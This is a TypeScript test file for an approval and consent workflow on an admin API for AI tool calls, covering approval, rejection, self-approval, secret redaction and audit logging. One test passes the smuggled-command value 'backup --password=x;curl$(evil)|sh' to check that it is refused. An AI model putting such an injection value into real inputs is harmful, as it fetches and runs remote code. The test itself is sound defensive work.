/** Consent over the admin API. */
import { afterEach, beforeEach, expect, it } from 'vitest';
import { callTool, cleanUp, faultIn, type Posted, post } from '../tools.ts';
import { ANN, type House, OPS, openHouse } from './house.ts';

interface Row {
  readonly seq: number;
  readonly actor: string;
  readonly action: string;
  readonly target: string;
}

interface Waiting {
  readonly id: string;
  readonly arguments: { readonly password: string };
}

let house: House;
beforeEach(async () => {
  house = await openHouse();
});
afterEach(async () => {
  await house.close();
  await cleanUp();
});

const pay = (args: object, key = ANN): Promise<Posted> =>
  post(`${house.gateway.url}/bank/mcp`, callTool('pay', args), { authorization: `Bearer ${key}` });

async function asked(args: object, key = ANN): Promise<string> {
  const { details } = faultIn(await pay(args, key)) ?? {};
  const { approval_id: id } = Object(details) as { readonly approval_id: string };
  return id;
}

it('a call goes through once when it is approved', async () => {
  const id = await asked({ to: 'bob', password: 'hunter2hunter2' });
  const { body } = await house.ask('GET', '/approvals');
  expect(body.approvals).toMatchObject([{ id, caller: 'ann', tool: 'bank/pay', arguments: { to: 'bob' } }]);
  expect(JSON.stringify(body)).not.toContain('hunter2');
  expect((await house.ask('POST', `/approvals/${id}/approve`)).body).toEqual({
    id,
    caller: 'ann',
    tool: 'bank/pay',
    decision: 'approved',
  });
  expect((await pay({ to: 'bob', password: 'hunter2hunter2' })).text).toContain('paid');
  expect(faultIn(await pay({ to: 'bob', password: 'hunter2hunter2' }))?.['kind']).toBe('approval_required');
  const again = await house.ask('POST', `/approvals/${id}/approve`);
  expect([again.status, again.body.kind, again.body.subject]).toEqual([
    404,
    'not_found',
    { type: 'approval', id },
  ]);
});

it('shows whom a call is for, and tells two secrets apart that it does not show', async () => {
  const ids = [
    await asked({ iban: 'DE89370400440532013000', host: 'db-prod.internal', password: 'hunter2hunter2' }),
    await asked({ iban: 'DE75512108001245126199', host: 'db-test.internal', password: 'hunter2hunter2' }),
    await asked({ iban: 'DE75512108001245126199', host: 'db-test.internal', password: 'hunter3hunter3' }),
  ];
  const { body } = await house.ask('GET', '/approvals');
  const waiting: readonly Waiting[] = body.approvals.filter(({ id }: Waiting) => ids.includes(id));
  const hidden = expect.stringMatching(/^\[password:1#[0-9a-f]{8}\]$/);
  expect(waiting.map((one) => one.arguments)).toEqual([
    { iban: 'DE89370400440532013000', host: 'db-prod.internal', password: hidden },
    { iban: 'DE75512108001245126199', host: 'db-test.internal', password: hidden },
    { iban: 'DE75512108001245126199', host: 'db-test.internal', password: hidden },
  ]);
  const [one, same, other] = waiting.map((call) => call.arguments.password);
  expect(same).toBe(one);
  expect(other).not.toBe(one);
  for (const id of ids) expect((await house.ask('POST', `/approvals/${id}/reject`)).status).toBe(200);
});

it('asks nobody where a secret would hide the rest of a command', async () => {
  const fault = faultIn(await pay({ to: 'backup --password=x;curl$(evil)|sh' }));
  expect(fault).toMatchObject({
    kind: 'invalid_arguments',
    executed: 'no',
    message: expect.stringContaining('more than a secret would be hidden from whoever consents'),
  });
  expect(JSON.stringify((await house.ask('GET', '/approvals')).body)).not.toContain('backup');
});

it('a call that is rejected is forbidden', async () => {
  const id = await asked({ to: 'eve' });
  expect((await house.ask('POST', `/approvals/${id}/reject`)).body.decision).toBe('rejected');
  expect(faultIn(await pay({ to: 'eve' }))?.['kind']).toBe('forbidden');
});

it('nobody consents to a call of their own, and anybody may give up one', async () => {
  const id = await asked({ to: 'me' }, OPS);
  const { status, body } = await house.ask('POST', `/approvals/${id}/approve`);
  expect([status, body.kind, body.detail]).toEqual([
    403,
    'forbidden',
    'Nobody consents to a call of their own',
  ]);
  expect((await house.ask('POST', `/approvals/${id}/reject`)).status).toBe(200);
});

it('every decision is written down, with who made it', async () => {
  const [approved, rejected] = [await asked({ to: 'bob' }), await asked({ to: 'eve' })];
  await house.ask('POST', `/approvals/${approved}/approve`);
  await pay({ to: 'bob' });
  await house.ask('POST', `/approvals/${rejected}/reject`);
  await house.ask('POST', `/approvals/${await asked({ to: 'me' }, OPS)}/reject`);
  const { body } = await house.ask('GET', '/audit');
  const rows = body.rows.map((row: Row) => [row.actor, row.action]);
  expect(rows).toEqual([
    ['ops', 'approvals.approve'],
    ['ann', 'approvals.use'],
    ['ops', 'approvals.reject'],
    ['ops', 'approvals.reject'],
  ]);
});
